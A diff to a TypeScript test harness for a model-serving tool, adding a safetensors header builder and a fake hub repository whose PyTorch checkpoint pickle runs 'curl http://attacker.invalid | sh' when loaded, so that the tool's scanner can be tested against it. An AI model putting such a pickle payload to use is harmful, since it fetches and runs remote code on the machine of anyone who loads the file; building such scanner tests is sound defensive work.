@@ -1,6 +1,8 @@
 import { spawn, type ChildProcess } from 'node:child_process';
 import { join, resolve } from 'node:path';
 import { createInterface } from 'node:readline';
+import { osSystemPickle } from '../fixtures/scan/pickle-builder';
+import { torchZip } from '../fixtures/scan/zip-builder';
 import { startHubServer, type HubFileSpec } from './hub-server';
 import { startRegistry } from './registry';
 import { tempDir } from './temp';
@@ -14,6 +16,21 @@ export interface DemoStack {
   hubUrl: string;
   model: string;
   stop(): Promise<void>;
+}
+
+/** A safetensors header for one U8 tensor filling a file of `size` bytes, so generated data after it is a valid model. */
+export function safetensorsPrefix(size: number): Buffer {
+  let len = 0;
+  for (;;) {
+    const json = JSON.stringify({ __metadata__: { format: 'pt' }, 'model.embed.weight': { dtype: 'U8', shape: [size - 8 - len], data_offsets: [0, size - 8 - len] } });
+    const padded = json.padEnd(Math.ceil(json.length / 8) * 8, ' ');
+    if (padded.length === len) {
+      const head = Buffer.alloc(8);
+      head.writeBigUInt64LE(BigInt(len));
+      return Buffer.concat([head, Buffer.from(padded)]);
+    }
+    len = padded.length;
+  }
 }
 
 /** Starts `ferry serve` as its own process and resolves with the URL it prints. */
@@ -31,6 +48,7 @@ export async function startServe(dataDir: string, env: NodeJS.ProcessEnv = {}): 
 /** A real stack on loopback: a source registry with test images, a hub stand-in with one model, `ferry serve`. */
 export async function startDemoStack(opts: { modelBytes?: number; files?: Record<string, HubFileSpec> } = {}): Promise<DemoStack> {
   const tmp = tempDir('ferry-demo-');
+  const modelBytes = opts.modelBytes ?? 8 * 1024 * 1024;
   const registry = await startRegistry();
   const hub = await startHubServer({
     repos: {
@@ -38,10 +56,12 @@ export async function startDemoStack(opts: { modelBytes?: number; files?: Record
         files: {
           'README.md': Buffer.from('---\nlicense: apache-2.0\n---\n# tiny-llm\n'),
           'config.json': Buffer.from('{"model_type":"mistral"}'),
-          'model.safetensors': { size: opts.modelBytes ?? 8 * 1024 * 1024, seed: 3 },
+          'model.safetensors': { size: modelBytes, seed: 3, prefix: safetensorsPrefix(modelBytes) },
           ...opts.files,
         },
       },
+      // A checkpoint whose pickle runs a shell command when loaded: scanning must block it.
+      'acme/evil-llm': { files: { 'config.json': Buffer.from('{}'), 'pytorch_model.bin': torchZip(osSystemPickle('curl http://attacker.invalid | sh')) } },
     },
   });
   const built = await buildTestImages(join(tmp.path, 'layout'));
